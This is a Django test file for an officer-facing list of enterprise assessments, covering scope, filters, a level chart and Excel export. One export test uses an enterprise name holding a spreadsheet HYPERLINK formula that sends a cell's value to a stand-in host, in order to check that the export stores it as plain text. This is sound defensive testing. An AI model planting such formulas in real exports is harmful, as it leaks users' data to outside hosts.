"""The officer list of assessments: scope, filters, level chart and Excel export."""

from io import BytesIO

from django.test import override_settings
from django.urls import reverse
from django.utils.http import urlencode
from django.utils.translation import gettext as _
from openpyxl import load_workbook

from smedx.assessments import standing
from smedx.assessments.forms.officer import filtered_assessments
from smedx.assessments.levels import level_label
from smedx.assessments.loader import load_bundled
from smedx.assessments.models import Assessment
from smedx.core.models import ExportJob
from smedx.testing import PersonaTestCase, make_enterprise
from smedx.testing.answer_sets import best, middling, scenes, worst
from smedx.testing.assessments import make_assessment

COLUMNS = [
    "name", "code", "district", "industry", "period", "kind", "status", "version", "total", "level",
    "B", "M", "E", "submitted",
]  # fmt: skip
LIST = reverse("assessments:list")
EXPORT = reverse("assessments:export")


class OfficerListTestCase(PersonaTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        load_bundled()
        # Home district: T0 三级 and T1 四级 of the persona's enterprise, a draft of the other one.
        cls.t0 = make_assessment(cls.enterprise, middling(), period="T0")
        cls.t1 = make_assessment(cls.enterprise, best(), period="T1")
        cls.draft = make_assessment(cls.other_enterprise, {"B1": ["B"]}, status=Assessment.Status.DRAFT)
        # Other district: 未达一级.
        cls.far = make_assessment(cls.far_enterprise, worst(), period="T0")

    def names(self, response):
        return sorted((a.enterprise.name, a.period) for a in response.context["page"])

    def get(self, user, url=LIST, **query):
        self.login(user)
        return self.client.get(url, query)

    def export(self, user, **query):
        """The export button posts the list's filters in the query string."""
        self.login(user)
        return self.client.post(f"{EXPORT}?{urlencode(query)}")


class OfficerListTests(OfficerListTestCase):
    def test_it_shows_a_district_officer_the_assessments_of_the_district(self):
        response = self.get(self.district)
        self.assertEqual(response.status_code, 200)
        self.assertEqual(
            self.names(response), [("测试企业乙", "T0"), ("测试企业甲", "T0"), ("测试企业甲", "T1")]
        )
        self.assertContains(response, "测试企业甲")
        self.assertNotContains(response, "江北测试企业")

    def test_it_shows_the_city_every_district(self):
        self.assertEqual(len(self.get(self.city).context["page"]), 4)
        self.assertEqual(self.names(self.get(self.other_district)), [("江北测试企业", "T0")])

    def test_it_refuses_people_without_the_right(self):
        for user in (self.enterprise_user, self.expert, self.provider, self.platform, self.outsider):
            with self.subTest(user=user.username):
                self.assertEqual(self.get(user).status_code, 403)
        self.client.logout()
        self.assertRedirects(self.client.get(LIST), f"{reverse('login')}?next={LIST}")

    def test_it_answers_405_to_a_post(self):
        self.login(self.city)
        self.assertEqual(self.client.post(LIST).status_code, 405)
        self.assertEqual(self.client.get(EXPORT).status_code, 405)

    def test_it_filters_by_each_field(self):
        cases = [
            ({"status": "draft"}, [("测试企业乙", "T0")]),
            ({"kind": "verified"}, []),
            ({"level": "4"}, [("测试企业甲", "T1")]),
            ({"level": "0"}, [("江北测试企业", "T0")]),
            ({"level": "none"}, [("测试企业乙", "T0")]),
            ({"period": "T1"}, [("测试企业甲", "T1")]),
            ({"region": self.other_region.pk}, [("江北测试企业", "T0")]),
            ({"division": "34", "size": self.enterprise.size_class}, sorted(self.all_rows())),
            ({"division": "13"}, []),
            ({"instrument": self.t0.instrument_id}, sorted(self.all_rows())),
            ({"q": "江北"}, [("江北测试企业", "T0")]),
            ({"q": self.enterprise.credit_code.lower()}, [("测试企业甲", "T0"), ("测试企业甲", "T1")]),
        ]
        for query, expected in cases:
            with self.subTest(query):
                self.assertEqual(self.names(self.get(self.city, **query)), expected)

    def all_rows(self):
        return [(a.enterprise.name, a.period) for a in Assessment.objects.select_related("enterprise")]

    def test_it_ignores_a_district_outside_the_officers_own(self):
        response = self.get(self.district, region=self.other_region.pk)
        self.assertTrue(response.context["form"].errors)
        self.assertNotContains(response, "江北测试企业")

    def test_it_paginates(self):
        for _n in range(26):
            make_assessment(self.enterprise, worst(), period="T2")
        first = self.get(self.city)
        self.assertEqual(first.context["page"].paginator.count, 30)
        self.assertEqual(len(first.context["page"]), 25)
        second = self.get(self.city, page=2, period="T2")
        self.assertEqual(len(second.context["page"]), 1)
        self.assertContains(first, "page=2")

    def test_it_lists_without_a_query_per_row(self):
        self.login(self.city)
        # session, user, membership; bounded count, rows, the chart's kept counts and the districts'
        # names; unread notifications; the district and instrument filter choices.
        with self.assertNumQueries(10):
            self.client.get(LIST)
        for n in range(20):
            region = self.home_region if n % 2 else self.other_region
            make_assessment(make_enterprise(region), middling(), period="T0")
        with self.assertNumQueries(10):
            response = self.client.get(LIST)
        self.assertEqual(len(response.context["page"]), 24)

    def test_it_shows_dimension_points_and_level_names(self):
        response = self.get(self.district, period="T0", status="submitted")
        self.assertContains(response, "65.25")
        self.assertContains(response, "8.25")  # M of middling()
        self.assertContains(response, level_label(3))


class LevelChartTests(OfficerListTestCase):
    def test_it_counts_each_enterprise_once_at_its_current_level(self):
        # 测试企业甲 has a T0 三级 and a T1 四级: it stands at 四级, once; 江北测试企业 at 未达一级.
        chart = self.get(self.city).context["chart"]
        self.assertEqual(chart["levels"], [1, 0, 0, 0, 1])
        self.assertEqual(chart["total"], 2)
        self.assertEqual(len(chart["labels"]), 5)

    def test_it_counts_a_verified_level_before_a_newer_self_assessment(self):
        make_assessment(
            self.enterprise,
            middling(),
            kind=Assessment.Kind.VERIFIED,
            status=Assessment.Status.VERIFIED,
            verified_from=self.t0,
        )
        self.assertEqual(self.get(self.district).context["chart"]["levels"], [0, 0, 0, 1, 0])

    def test_it_says_which_rule_it_counts_by(self):
        response = self.get(self.district)
        self.assertContains(response, str(standing.RULE))
        self.assertContains(response, 'data-testid="count-assessments"')

    def test_it_offers_every_rated_assessment_as_a_second_view(self):
        response = self.get(self.city, count="assessments")
        self.assertEqual(response.context["chart"]["levels"], [1, 0, 0, 1, 1])
        self.assertEqual(response.context["chart"]["total"], 3)
        self.assertNotContains(response, str(standing.RULE))

    def test_it_links_each_count_to_the_enterprise_list_at_that_level(self):
        response = self.get(self.district)
        cells = response.context["cells"]
        self.assertEqual([n for n, _link in cells], [0, 0, 0, 0, 1])
        for n, link in cells:
            with self.subTest(level=n):
                listed = self.client.get(link).context["page"].paginator.count
                self.assertEqual(listed, n)
        self.assertIn("current_level=4", cells[4][1])

    def test_it_keeps_the_enterprise_filters_in_the_links(self):
        response = self.get(self.city, region=self.other_region.pk, size="small")
        self.assertEqual(response.context["chart"]["levels"], [1, 0, 0, 0, 0])
        link = response.context["cells"][0][1]
        self.assertIn(f"region={self.other_region.pk}", link)
        self.assertEqual(self.client.get(link).context["page"].paginator.count, 1)

    def test_it_stacks_the_levels_per_district_for_the_city(self):
        make_assessment(self.far_enterprise, middling(**scenes(2)), period="T1")  # 二级
        chart = self.get(self.city).context["chart"]
        self.assertEqual(chart["districts"], ["江北区", "渝北区"])
        self.assertEqual(chart["series"], [[0, 0], [0, 0], [1, 0], [0, 0], [0, 1]])
        chart = self.get(self.city, count="assessments").context["chart"]
        self.assertEqual(chart["series"], [[1, 0], [0, 0], [1, 0], [0, 1], [0, 1]])

    def test_it_counts_only_what_the_filters_and_the_scope_leave(self):
        chart = self.get(self.district, count="assessments", period="T0").context["chart"]
        self.assertEqual(chart["levels"], [0, 0, 0, 1, 0])
        self.assertNotIn("districts", chart)
        chart = self.get(self.district, level="4").context["chart"]
        self.assertEqual(chart["levels"], [0, 0, 0, 0, 1])

    def test_it_embeds_the_chart_data_and_the_local_echarts(self):
        response = self.get(self.city)
        self.assertContains(response, '<script id="chart-data" type="application/json">')
        self.assertContains(response, "vendor/echarts/echarts.min.js")
        self.assertContains(response, 'id="district-chart"')

    def test_it_says_so_when_nothing_is_rated(self):
        response = self.get(self.city, count="assessments", status="draft")
        self.assertEqual(response.context["chart"]["total"], 0)
        self.assertNotContains(response, "echarts.min.js")
        response = self.get(self.city, level="none")
        self.assertEqual(response.context["chart"]["total"], 0)
        self.assertNotContains(response, "echarts.min.js")


class DimensionColumnTests(OfficerListTestCase):
    def test_it_heads_the_dimension_columns_with_their_names(self):
        response = self.get(self.district)
        for code, name in (("B", "数字化基础"), ("M", "数字化管理"), ("E", "数字化成效")):
            with self.subTest(code=code):
                self.assertContains(response, f'data-testid="dimension-{code}">{name}</th>', html=False)
        self.assertNotContains(response, '<th scope="col" class="d-none d-xl-table-cell text-end">B</th>')


class ExportTests(OfficerListTestCase):
    def rows(self, response):
        self.assertEqual(
            response["Content-Type"], "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        )
        self.assertIn("attachment;", response["Content-Disposition"])
        sheet = load_workbook(BytesIO(response.getvalue()), read_only=True).active
        rows = [list(row) for row in sheet.iter_rows(values_only=True)]
        # Rows written in write-only mode stop at their last value.
        return [row + [None] * (len(rows[0]) - len(row)) for row in rows]

    def test_it_exports_the_visible_rows_with_scores(self):
        rows = self.rows(self.export(self.district))
        header, *data = rows
        self.assertEqual(header[:3], [_("Enterprise name"), _("Unified social credit code"), _("District")])
        self.assertIn("B 数字化基础", header)
        self.assertEqual(len(data), 3)
        by_period = {(row[0], row[4]): dict(zip(COLUMNS, row, strict=True)) for row in data}
        t0 = by_period[("测试企业甲", "T0")]
        self.assertEqual(t0["code"], self.enterprise.credit_code)
        self.assertEqual(t0["district"], "渝北区")
        self.assertEqual((t0["total"], t0["level"]), (65.25, str(level_label(3))))
        self.assertEqual((t0["B"], t0["M"], t0["E"]), (50, 8.25, 7))
        self.assertEqual(t0["kind"], Assessment.Kind.SELF.label)
        draft = by_period[("测试企业乙", "T0")]
        self.assertEqual((draft["total"], draft["level"], draft["B"]), (None, None, None))

    def test_it_exports_a_long_list_in_the_worker_with_the_same_rows(self):
        at_once = self.rows(self.export(self.city, period="T0"))
        with override_settings(EXPORT_INLINE_ROWS=1):
            response = self.export(self.city, period="T0")
        job = ExportJob.objects.latest("id")
        self.assertRedirects(response, reverse("core:export_detail", args=[job.pk]))
        self.assertEqual((job.status, job.in_background, job.kind), ("done", True, "assessments.assessment"))
        written = self.rows(self.client.get(reverse("core:export_download", args=[job.pk])))
        self.assertEqual(written, at_once)
        _form, qs = filtered_assessments(self.city, {"period": "T0"})
        self.assertEqual(len(written) - 1, qs.count())

    def test_it_exports_a_name_that_looks_like_a_formula_as_text(self):
        name = '=HYPERLINK("http://x/?"&B2,"点击")'
        make_assessment(make_enterprise(self.home_region, name), middling(), period="T0")
        response = self.export(self.district)
        sheet = load_workbook(BytesIO(response.getvalue())).active
        row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == name)

        self.assertEqual(row[0].data_type, "s")
        total = row[COLUMNS.index("total")]
        self.assertEqual((total.data_type, total.value), ("n", 65.25))

    def test_it_exports_what_the_filters_leave(self):
        rows = self.rows(self.export(self.city, level="0"))
        self.assertEqual([row[0] for row in rows[1:]], ["江北测试企业"])

    def test_it_refuses_people_without_the_right(self):
        for user in (self.enterprise_user, self.expert, self.outsider):
            with self.subTest(user=user.username):
                self.assertEqual(self.export(user).status_code, 403)

    def test_it_links_the_export_with_the_filters(self):
        response = self.get(self.city, period="T1")
        self.assertContains(response, f"{EXPORT}?period=T1")
